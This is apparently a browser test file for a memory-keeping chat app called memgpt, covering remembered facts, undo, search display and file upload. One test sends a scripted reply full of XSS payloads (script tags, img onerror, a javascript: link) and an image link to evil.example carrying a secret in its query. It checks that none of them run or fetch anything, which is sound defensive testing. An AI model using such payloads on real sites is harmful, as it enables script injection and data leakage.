import { ScriptedLlm } from "memgpt/testing";
import { expect, test } from "vitest";
import { inBrowser, makeAgent, say, visit } from "./support/browser.ts";

inBrowser("chat", () => {
  test("a first visit leads to a first remembered fact, which one click reverts", async () => {
    const { page, asked, complaints, server } = await visit();
    await makeAgent(page);

    await say(page, "My boyfriend is called James.");

    const row = page.getByRole("group", { name: "Remembered in human" });
    await expect.poll(() => row.innerText()).toContain("Boyfriend named James");
    await page.getByRole("button", { name: "Memory", exact: true }).click();
    const human = page.getByLabel("What the model sees in human");
    await expect.poll(() => human.innerText()).toContain("Boyfriend named James");

    await row.getByRole("button", { name: "Undo" }).click();
    await expect.poll(() => human.innerText()).not.toContain("James");

    await page.getByRole("button", { name: "Undo the last turn or command, memory included" }).click();
    await expect.poll(() => human.innerText()).toContain("Boyfriend named James");
    expect(asked.filter((url) => !url.startsWith(server.url))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test("a search is shown as a row with its query and results", async () => {
    const { page } = await visit();
    await makeAgent(page);
    await say(page, "I am building a wooden boat called Aurora. Its keel is oak.");
    await say(page, "What is the keel of my boat made of?");

    const row = page.locator("details.search-row").first();

    await expect.poll(() => row.locator("summary").innerText()).toMatch(/for keel boat made and found \d lines?$/);
    await row.locator("summary").click();
    await row.getByText("Its keel is oak.").first().waitFor();
    await row
      .getByText(/^Found by/)
      .first()
      .waitFor();
  });

  test("undo reverts the turn with what it remembered", async () => {
    const { page } = await visit();
    await makeAgent(page);
    await say(page, "My boyfriend is called James.");

    await page.getByRole("button", { name: "Undo the last turn or command, memory included" }).click();

    await expect.poll(() => page.getByRole("article").count()).toBe(0);
    await page.getByRole("button", { name: "Memory", exact: true }).click();
    expect(await page.getByLabel("What the model sees in human").innerText()).not.toContain("James");
  });

  test("markdown is shown, pictures are links, and nothing in a reply runs or is fetched", async () => {
    const hostile = [
      "# Title",
      "**bold** `code` <img src=x onerror=\"document.title='run'\"> <script>document.title='run'</script>",
      "![a picture](https://evil.example/leak.png?q=secret)",
      "[plain](javascript:alert(1)) [site](https://evil.example/page)",
      "<style>body{display:none}</style>",
      "```js",
      "const a = '<b>';",
      "```",
      "| a | b |\n|---|---|\n| 1 | 2 |",
    ].join("\n\n");
    const llm = (): ScriptedLlm => new ScriptedLlm([{ call: "send_message", args: { message: hostile } }]);
    const { page, asked, complaints, server } = await visit({ llm });
    await makeAgent(page, '<img src=x onerror="document.title=1">');

    await say(page, "<script>document.title='run'</script> **hi**");

    const reply = page.locator("article.agent .markdown");
    expect(await reply.locator("strong").innerText()).toBe("bold");
    expect(await reply.locator("table td").allInnerTexts()).toEqual(["1", "2"]);
    expect(await reply.innerText()).toContain("<script>document.title='run'</script>");
    expect(await reply.locator("img, script, style").count()).toBe(0);
    const links = await reply.locator("a").all();
    expect(await Promise.all(links.map((link) => link.getAttribute("href")))).toEqual([
      "https://evil.example/leak.png?q=secret",
      "https://evil.example/page",
    ]);
    for (const link of links) expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(await page.title()).toBe("memgpt");
    expect(asked.filter((url) => !url.startsWith(server.url))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test("a file is loaded in the page and asked about", async () => {
    const { page } = await visit();
    await makeAgent(page);
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Command" }).fill("load files");
    await page.keyboard.press("Enter");

    const text = "The Aurora was launched in Setúbal in May 1987 by Ines Duarte.";
    await page.getByLabel("Files, up to 45 MB each").setInputFiles({
      name: "boat.txt",
      mimeType: "text/plain",
      buffer: Buffer.from(text),
    });

    await page.getByText("boat.txt: done. 1 passage").waitFor();
    expect(await page.getByRole("checkbox", { name: "uploads" }).isChecked()).toBe(true);
    await say(page, "Where was the Aurora launched?");
    await expect.poll(() => page.locator("article.agent").last().innerText()).toContain("Setúbal");
  });
});
